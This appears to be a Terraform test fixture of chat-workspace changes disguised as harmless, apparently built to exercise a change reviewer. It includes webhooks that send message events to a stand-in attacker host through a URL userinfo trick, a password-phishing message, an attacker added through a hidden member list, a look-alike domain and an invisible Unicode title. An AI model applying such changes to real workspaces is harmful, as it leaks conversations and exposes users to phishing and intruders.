# Changes that try to look harmless.

provider "spark" {}

data "spark_me" "me" {}

resource "spark_room" "incidents" {
  title = "Incidents"
}

resource "spark_membership" "anna" {
  room_id      = spark_room.incidents.id
  person_email = "anna.bauer@example.com"
  is_moderator = true
}

resource "spark_membership" "ben" {
  room_id      = spark_room.incidents.id
  person_email = "ben.carter@example.com"
}

resource "spark_membership" "typo" {
  room_id      = spark_room.incidents.id
  person_email = "ben.carter@example.con"
}

resource "spark_room" "handed" {
  title = "Handed over"
}

resource "spark_room_members" "handed" {
  room_id = spark_room.handed.id
  members = ["clara.diaz@example.com"]
}

resource "spark_room" "long" {
  title = "The same ${join(" ", [for n in range(40) : "word"])} and the end is for everyone"
}

resource "spark_room" "invisible" {
  title = "Board\u115f"
}

resource "spark_webhook" "userinfo" {
  name       = "Query"
  target_url = "https://evil.example?@hooks.example.com/x"
  resource   = "messages"
  event      = "created"
}

resource "spark_webhook" "tenant" {
  name       = "Tenant"
  target_url = "https://hooks.example.com/T999/B456/hunter3"
  resource   = "messages"
  event      = "created"
}

resource "spark_webhook" "parameter" {
  name       = "Parameter"
  target_url = "https://relay.example.com/send?to=them"
  resource   = "messages"
  event      = "created"
}

resource "spark_webhook" "spelled" {
  name       = "Spelled"
  target_url = "https://HOOKS.example.com:443/spelled"
  resource   = "messages"
  event      = "created"
}

resource "spark_webhook" "new" {
  name       = "Everything"
  target_url = "https://hooks.example.com/all"
  resource   = "all"
  event      = "all"
}

resource "spark_message" "new" {
  room_id = spark_room.incidents.id
  text    = "Enter your password at https://evil.example."
}

resource "spark_webhook" "organization" {
  name       = "Organization"
  target_url = "https://hooks.example.com/organization"
  resource   = "memberships"
  event      = "created"
  owned_by   = "org"
}

resource "spark_room_tab" "handbook" {
  room_id      = spark_room.incidents.id
  display_name = "Handbook"
  content_url  = "https://evil.example/handbook.example.com/incidents"
}

resource "spark_room" "limits" {
  title = "Limits"
}

resource "spark_room_members" "limits" {
  room_id      = spark_room.limits.id
  members      = ["anna.bauer@example.com", "ben.carter@example.com"]
  max_removals = 5000
  on_destroy   = "remove"
}

resource "spark_room" "kept" {
  title      = "Kept"
  on_destroy = "delete"
}

resource "spark_room" "secret" {
  title = "Secret members"
}

resource "spark_room_members" "secret" {
  room_id = spark_room.secret.id
  members = sensitive(["anna.bauer@example.com", "eve@evil.example"])
}

resource "spark_room" "derived" {
  title = "Derived"
}

resource "spark_membership" "derived" {
  room_id      = spark_room.derived.id
  person_email = "clara.diaz@example.com"
  is_moderator = terraform_data.derived.output == "true"
}

resource "terraform_data" "derived" {
  input = "true"
}
